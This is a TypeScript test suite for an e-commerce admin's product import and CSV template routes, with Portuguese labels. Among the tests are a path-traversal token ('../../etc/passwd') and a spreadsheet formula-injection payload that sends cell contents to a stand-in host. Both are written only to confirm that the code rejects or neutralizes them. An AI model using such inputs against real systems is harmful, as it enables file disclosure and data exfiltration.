import { eq, sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import iconv from "iconv-lite";
import { beforeAll, describe, expect, it } from "vitest";
import { categorias, produtos, variantes } from "~/modules/catalog/testing.server";
import { db } from "~/platform/db/client.server";
import { storage } from "~/platform/storage.server";
import { action } from "~/routes/admin/importar";
import { loader as templateLoader } from "~/routes/admin/importar-modelo";
import { withTestDatabase } from "../setup/db";
import { makeRequest } from "../setup/requests";
import { auditEntries, insertProduct, makeAdmin } from "../support/factories";
import { call, multipartRequest } from "../support/routes";

withTestDatabase();
let token: string;

beforeAll(async () => {
  ({ token } = await makeAdmin());
  await db().insert(categorias).values({ nome: "Rações" });
});

const HEADER =
  "Nome do Produto;Descrição;Categoria;Subgrupo;Marca;Preço de Custo;Preço de Venda;Preço Promocional;Estoque;SKU;Unidade";

async function variantOf(produtoId: string) {
  const [row] = await db().select().from(variantes).where(eq(variantes.produtoId, produtoId));
  return row!;
}

async function preview(name: string, data: Uint8Array) {
  return call(
    action,
    multipartRequest(
      "/admin/importar",
      { intent: "preview" },
      { arquivo: { name, type: "text/csv", data } },
      token,
    ),
  );
}

async function confirm(p: { token: string; fileName: string }) {
  const form = new FormData();
  form.append("intent", "import");
  form.append("token", p.token);
  form.append("fileName", p.fileName);
  return call(action, makeRequest("/admin/importar", { method: "POST", body: form, token }));
}

describe("product import", () => {
  it("previews without writing, then imports 3 good rows and lists the 2 bad ones", async () => {
    await insertProduct({ nome: "Bifinho Keldog Carne 65 g" });
    const before = (await db().select().from(produtos)).length;
    const csv = [
      HEADER,
      "Ração Gatos Castrados 1,5 kg;Salmão;rações;;Premier;40,00;64,90;;20;IMP-1;",
      '"Cama ""Nuvem"" G";"Macia;\nlavável";Acessórios;Camas;;;129,90;99,90;5;IMP-2;un',
      "Shampoo Neutro 500 ml;;Higiene;;;;1.234,56;;;;",
      "Brinde Sem Preço;;Brinquedos;;;;0,00;;3;;",
      "bifinho keldog carne 65 G;;Petiscos;;;;7,90;;10;;",
    ].join("\r\n");
    const bytes = iconv.encode(csv, "win1252");

    const p = await preview("produtos.csv", bytes);
    expect(p.data.ok).toBe(true);
    expect(p.data.preview).toMatchObject({ total: 5, valid: 3, invalid: 2 });
    expect(p.data.preview.rows[0].product).toMatchObject({
      nome: "Ração Gatos Castrados 1,5 kg",
      precoAtual: 6490,
      estoque: 20,
    });
    expect(p.data.preview.errors).toEqual([
      "Linha 5 (Brinde Sem Preço): Preço de venda deve ser maior que zero",
      "Linha 6 (bifinho keldog carne 65 G): produto já existe",
    ]);
    expect((await db().select().from(produtos)).length).toBe(before);

    const result = await confirm(p.data.preview);
    // The message adds the plan's summary (decision 0029: rows create or update variants).
    expect(result.data).toMatchObject({
      ok: true,
      message:
        "3 produtos importados com sucesso! 3 produtos, 3 variações: 0 atualizadas, 3 novas, 0 removidas; 2 linhas com erro",
    });
    expect(result.data.result).toMatchObject({ imported: 3, failed: 2 });
    expect(result.data.result.errors).toHaveLength(2);
    expect(result.data.result.categoriesCreated.sort()).toEqual(["Acessórios", "Higiene"]);

    const [cama] = await db().select().from(produtos).where(eq(produtos.sku, "IMP-2"));
    expect(cama).toMatchObject({
      nome: 'Cama "Nuvem" G',
      descricaoCurta: "Macia;\nlavável",
      unidade: "UN",
      subgrupo: "Camas",
    });
    // Prices live on the product's one variant (same id, same SKU).
    expect(await variantOf(cama!.id)).toMatchObject({
      sku: "IMP-2",
      preco: 9990,
      precoAntes: 12990,
    });
    const [shampoo] = await db()
      .select()
      .from(produtos)
      .where(eq(produtos.nome, "Shampoo Neutro 500 ml"));
    expect(shampoo).toMatchObject({ unidade: "UN", busca: "shampoo neutro 500 ml" });
    expect(await variantOf(shampoo!.id)).toMatchObject({ preco: 123456, rotulo: "" });
    // 'rações' found the existing 'Rações' category instead of creating another.
    const racoes = await db().execute(
      sql`select count(*)::int as n from categorias where lower(nome) = 'rações'`,
    );
    expect((racoes as unknown as { rows: { n: number }[] }).rows[0]!.n).toBe(1);

    const [audit] = await auditEntries("product_import");
    expect(audit!.details).toMatchObject({ arquivo: "produtos.csv", importados: 3 });
    expect(await auditEntries("category_create")).toHaveLength(2);
    // The staged file is gone; confirming twice is refused.
    expect(await storage().read("private", `importacoes/${p.data.preview.token}`)).toBeNull();
    const again = await confirm(p.data.preview);
    expect(again.data.message).toBe("Arquivo de importação expirou. Envie novamente.");
  });

  it("imports an .xlsx file and reports a file without valid products", async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("Planilha1");
    sheet.addRow(["Nome do Produto", "Categoria", "Preço de Venda", "Estoque"]);
    sheet.addRow(["Coleira Xlsx", "Acessórios", 25.5, 4]);
    const bytes = new Uint8Array(await workbook.xlsx.writeBuffer());
    const p = await preview("planilha.xlsx", bytes);
    expect(p.data.preview).toMatchObject({ total: 1, valid: 1 });
    const r = await confirm(p.data.preview);
    expect(r.data.message).toBe(
      "1 produtos importados com sucesso! 1 produto, 1 variação: 0 atualizadas, 1 nova, 0 removidas",
    );
    const [row] = await db().select().from(produtos).where(eq(produtos.nome, "Coleira Xlsx"));
    expect((await variantOf(row!.id)).preco).toBe(2550);

    const empty = await preview("ruim.csv", Buffer.from(`${HEADER}\nSem Preço;;X;;;;;;;;\n`));
    expect(empty.data.preview.valid).toBe(0);
    const nothing = await confirm(empty.data.preview);
    expect(nothing.data.message).toBe("Nenhum produto válido encontrado no arquivo CSV");

    const broken = await preview("quebrado.xlsx", Buffer.from("PK\u0003\u0004 não é um zip"));
    expect(broken.data.message).toBe("Erro ao processar arquivo CSV");

    const forged = await confirm({ token: "../../etc/passwd", fileName: "x" });
    expect(forged.data.message).toBe("Arquivo de importação inválido. Envie novamente.");
  });

  it("lists at most 10 errors, then '... e mais N erros'", async () => {
    const rows = Array.from({ length: 13 }, (_, i) => `Sem Preço ${i};;X;;;;0;;;;`);
    const p = await preview(
      "erros.csv",
      Buffer.from([HEADER, ...rows, "Um Bom;;X;;;;1,00;;;;"].join("\n")),
    );
    expect(p.data.preview.errors).toHaveLength(11);
    expect(p.data.preview.errors[10]).toBe("... e mais 3 erros");
    const r = await confirm(p.data.preview);
    expect(r.data.result.errors.at(-1)).toBe("... e mais 3 erros");
    expect(r.data.result).toMatchObject({ imported: 1, failed: 13 });
  });

  it("serves the template to admins only", async () => {
    const ok = await call(templateLoader, makeRequest("/admin/importar/modelo.csv", { token }));
    expect(ok.response!.headers.get("content-disposition")).toContain(
      "modelo-importacao-produtos.csv",
    );
    // One row per variant, a stock column per unit (decision 0029).
    const text = await ok.response!.text();
    expect(text).toContain("sku;sku_produto;nome_produto;descricao;categoria");
    expect(text.split("\r\n")[0]).toContain(";estoque_meia-praia;estoque_rua-406;ativo");
    const anonymous = await call(templateLoader, makeRequest("/admin/importar/modelo.csv"));
    expect(anonymous.status).toBe(302);
  });

  it("neutralizes a formula in the template's example (a category typed as one), and imports it back as typed", async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1;"Ver")';
    const active = await db().select().from(categorias).where(eq(categorias.ativo, true));
    // The template takes the first active category: only the formula one is active.
    await db().update(categorias).set({ ativo: false });
    await db().insert(categorias).values({ nome: formula });
    try {
      const answer = await call(
        templateLoader,
        makeRequest("/admin/importar/modelo.csv", { token }),
      );
      const text = await answer.response!.text();
      const cells = text.split("\r\n")[1]!;
      expect(cells).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1;""Ver"")"`);
      expect(text).not.toMatch(/(^|[;\n])=/);

      const p = await preview("modelo.csv", Buffer.from(text));
      expect(p.data.preview.rows[0].product.categoria).toBe(formula);
    } finally {
      await db().delete(categorias).where(eq(categorias.nome, formula));
      for (const c of active) {
        await db().update(categorias).set({ ativo: true }).where(eq(categorias.id, c.id));
      }
    }
  });
});
